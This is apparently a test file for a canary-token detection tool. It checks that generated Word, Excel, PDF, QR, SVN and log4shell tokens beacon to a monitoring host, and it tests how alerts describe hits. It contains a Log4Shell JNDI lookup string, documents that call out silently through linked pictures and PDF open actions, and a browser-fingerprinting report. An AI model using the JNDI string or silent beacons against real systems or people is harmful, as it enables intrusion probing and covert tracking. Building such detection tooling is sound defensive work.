import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { strFromU8, unzipSync, zipSync, strToU8 } from 'fflate';
import { hitFacts } from '../../src/alerts/facts.js';
import type { DnsHitDetail, HttpHitDetail } from '../../src/core/model/hit-detail.js';
import type { Hit } from '../../src/core/model/hit.js';
import type { Token } from '../../src/core/model/token.js';
import { newTokenId } from '../../src/core/ids.js';
import type { ArtifactContext, TokenOptions } from '../../src/tokens/kind.js';
import { describeHit, tokenKind } from '../../src/tokens/registry.js';

const context: ArtifactContext = { publicUrl: 'https://t.example.com', dnsZone: 'canary.example.test' };

function make(kind: string, input: Partial<TokenOptions> = {}): Token {
  const id = newTokenId();
  const config = tokenKind(kind).prepare(id, { memo: 'm', ...input }, context);
  return {
    id,
    kind,
    memo: 'm',
    enabled: true,
    redirect: input.redirect ?? null,
    config,
    alertWindowSeconds: null,
    hitCount: 0,
    hitsKept: 0,
    lastHitAt: null,
    createdAt: '2030-01-01T00:00:00.000Z',
  };
}

function documentOf(token: Token): Buffer {
  const file = tokenKind(token.kind).artifact(token, context).file!;
  assert.equal(file.encoding, 'base64');
  return Buffer.from(file.content, 'base64');
}

function parts(bytes: Buffer): Record<string, string> {
  return Object.fromEntries(Object.entries(unzipSync(bytes)).map(([path, data]) => [path, strFromU8(data)]));
}

function hit(token: Token, detail: Hit['detail'], userAgent: string | null = null): Hit {
  return { id: '01hit', tokenId: token.id, kind: token.kind, at: '2030-01-01T00:00:00.000Z', source: '203.0.113.9', userAgent, detail };
}

const get = (path: string, query = ''): HttpHitDetail => ({ type: 'http', method: 'GET', path, query, headers: {} });

describe('document kinds: artifacts', () => {
  for (const [kind, relsPath] of [
    ['word', 'word/_rels/document.xml.rels'],
    ['excel', 'xl/drawings/_rels/drawing1.xml.rels'],
  ] as const) {
    test(`${kind}: the document links (does not embed) a picture at the token's URL, claims an ordinary author, and differs per token`, () => {
      const token = make(kind);
      const artifact = tokenKind(kind).artifact(token, context);
      const files = parts(documentOf(token));
      assert.match(files[relsPath]!, new RegExp(`Target="${artifact.url!.replace(/[.]/g, '\\.')}" TargetMode="External"`));
      assert.match(files['docProps/core.xml']!, /<dc:creator>[A-Z][a-z]+ [A-Z][a-z]+<\/dc:creator>/);
      assert.doesNotMatch(Object.values(files).join(''), /tripline/i);
      assert.deepEqual(documentOf(token), documentOf(token), 'the same token hands out the same bytes');
      assert.notDeepEqual(documentOf(make(kind)), documentOf(token));
    });
  }

  test('word: a template keeps its own content and metadata and gains the linked picture at the end of its body', () => {
    const template = zipSync({
      '[Content_Types].xml': strToU8('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
      'word/document.xml': strToU8(
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Our plan</w:t></w:r></w:p><w:sectPr/></w:body></w:document>',
      ),
      'docProps/core.xml': strToU8('<cp:coreProperties>mine</cp:coreProperties>'),
    });
    const token = make('word', { options: { template: Buffer.from(template).toString('base64') } });
    const files = parts(documentOf(token));
    assert.match(
      files['word/document.xml']!,
      /<w:t>Our plan<\/w:t><\/w:r><\/w:p><w:p><w:r><w:drawing [^>]*>.*r:link="rId1000".*<\/w:drawing><\/w:r><\/w:p><w:sectPr\/><\/w:body>/,
    );
    assert.match(files['word/_rels/document.xml.rels']!, /Id="rId1000" [^>]*TargetMode="External"/);
    assert.equal(files['docProps/core.xml'], '<cp:coreProperties>mine</cp:coreProperties>');
  });

  test('excel: a template gains a drawing on its first sheet; one whose first sheet has a drawing is refused', () => {
    const workbook = (sheet: string) =>
      Buffer.from(
        zipSync({
          '[Content_Types].xml': strToU8('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"></Types>'),
          'xl/workbook.xml': strToU8(
            '<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Q3" sheetId="1" r:id="rId7"/></sheets></workbook>',
          ),
          'xl/_rels/workbook.xml.rels': strToU8('<Relationships><Relationship Id="rId7" Type="worksheet" Target="worksheets/sheet1.xml"/></Relationships>'),
          'xl/worksheets/sheet1.xml': strToU8(sheet),
        }),
      ).toString('base64');
    const token = make('excel', { options: { template: workbook('<worksheet><sheetData/><pageMargins/></worksheet>') } });
    const files = parts(documentOf(token));
    assert.match(files['xl/worksheets/sheet1.xml']!, /<sheetData\/><pageMargins\/><drawing [^>]*r:id="rId1000"\/><\/worksheet>/);
    assert.match(files['xl/worksheets/_rels/sheet1.xml.rels']!, /Target="\/xl\/drawings\/drawing1\.xml"/);
    assert.match(files['xl/drawings/_rels/drawing1.xml.rels']!, /TargetMode="External"/);
    assert.match(files['[Content_Types].xml']!, /PartName="\/xl\/drawings\/drawing1\.xml"/);
    assert.throws(() => make('excel', { options: { template: workbook('<worksheet><sheetData/><drawing r:id="x"/></worksheet>') } }), /already has a drawing/);
  });

  test('pdf: its open action and link name the token by DNS name and trigger path', () => {
    const token = make('pdf');
    const artifact = tokenKind('pdf').artifact(token, context);
    const text = documentOf(token).toString('latin1');
    const uri = `https://${token.id}.canary.example.test${new URL(artifact.url!).pathname}`;
    assert.equal(artifact.hostname, `${token.id}.canary.example.test`);
    assert.equal(text.split(`/URI (${uri})`).length - 1, 2, 'the open action and the link');
    assert.match(text, /\/OpenAction 5 0 R/);
    assert.match(text, /^%PDF-1\.7\n[\s\S]*%%EOF\n$/);
  });

  test('qr: the caption goes under the code in the PNG and the SVG', () => {
    const plain = make('qr');
    const captioned = make('qr', { options: { caption: 'Guest Wi-Fi' } });
    const height = (token: Token) => documentOf(token).readUInt32BE(20);
    assert.ok(height(captioned) > height(plain), 'the captioned PNG is taller');
    assert.match(tokenKind('qr').artifact(captioned, context).extraFiles![0]!.content, />Guest Wi-Fi<\/text>/);
  });

  test('log4shell and svn hand out their string and repository dump', () => {
    const log4shell = make('log4shell');
    assert.equal(
      tokenKind('log4shell').artifact(log4shell, context).file!.content,
      `\${jndi:ldap://x\${hostName}.L4J.${log4shell.id}.canary.example.test/a}\n`,
    );
    const svn = make('svn');
    const dump = tokenKind('svn').artifact(svn, context).file!.content;
    assert.match(dump, /^SVN-fs-dump-format-version: 2\n/);
    assert.match(dump, new RegExp(`svn:externals\\nV \\d+\\nhttps://t\\.example\\.com/[a-z/]+/${svn.id}/trunk [a-z_-]+\\n`));
  });
});

describe('document and web-lure kinds: hits as alerts state them', () => {
  test('word opened with LibreOffice', () => {
    const token = make('word');
    const described = describeHit(hit(token, get('/a/x/logo.gif'), 'LibreOffice 7.4'));
    assert.equal(described.summary, 'document opened with LibreOffice');
    assert.deepEqual(hitFacts(hit(token, get('/a/x/logo.gif'), 'LibreOffice 7.4')).slice(0, 3), [
      { label: 'Time', value: '2030-01-01T00:00:00.000Z' },
      { label: 'Source', value: '203.0.113.9' },
      { label: 'Opened with', value: 'LibreOffice' },
    ]);
  });

  test("log4shell: the looked-up host's name", () => {
    const token = make('log4shell');
    const name = `xweb-01.prod.l4j.${token.id}.canary.example.test`;
    const detail: DnsHitDetail = { type: 'dns', qtype: 'A', qclass: 'IN', name, transport: 'udp', data: null, summary: `DNS A ${name} via udp` };
    assert.equal(describeHit(hit(token, detail)).summary, 'log4j lookup on host web-01.prod');
    assert.deepEqual(hitFacts(hit(token, detail))[2], { label: 'Host name', value: 'web-01.prod' });
  });

  test('cloned-site: the page location and referrer', () => {
    const token = make('cloned-site', { options: { hosts: 'login.example.com' } });
    const described = describeHit(hit(token, get('/a/x/pixel.png', 'l=https%3A%2F%2Flogin.examp1e.com%2F&r=https%3A%2F%2Fmail.example%2F')));
    assert.equal(described.summary, 'page running on login.examp1e.com');
    assert.deepEqual(described.facts.slice(0, 2), [
      { label: 'Page location', value: 'https://login.examp1e.com/' },
      { label: 'Referrer', value: 'https://mail.example/' },
    ]);
  });

  test('fingerprint: the browser as the page saw it; junk in the report is described as a plain hit', () => {
    const token = make('http', { redirect: 'https://example.org/', options: { fingerprint: true } });
    const report = Buffer.from(JSON.stringify({ screen: '390x844', timezone: 'Asia/Tokyo', platform: 'iPhone', language: 'ja-JP', plugins: '' })).toString(
      'base64url',
    );
    const described = describeHit(hit(token, get('/a/x/view', `v=${report}`)));
    assert.equal(described.summary, 'browser fingerprint: iPhone, Asia/Tokyo, 390x844, ja-JP');
    assert.deepEqual(
      described.facts.slice(0, 4).map((f) => f.label),
      ['Screen', 'Language', 'Time zone', 'Platform'],
    );
    assert.equal(describeHit(hit(token, get('/a/x/view', 'v=%%%'))).summary, 'GET /a/x/view?v=%%%');
    assert.equal(describeHit(hit(token, get('/a/x/view', 'v=0'))).summary, 'browser without JavaScript, redirected');
  });
});
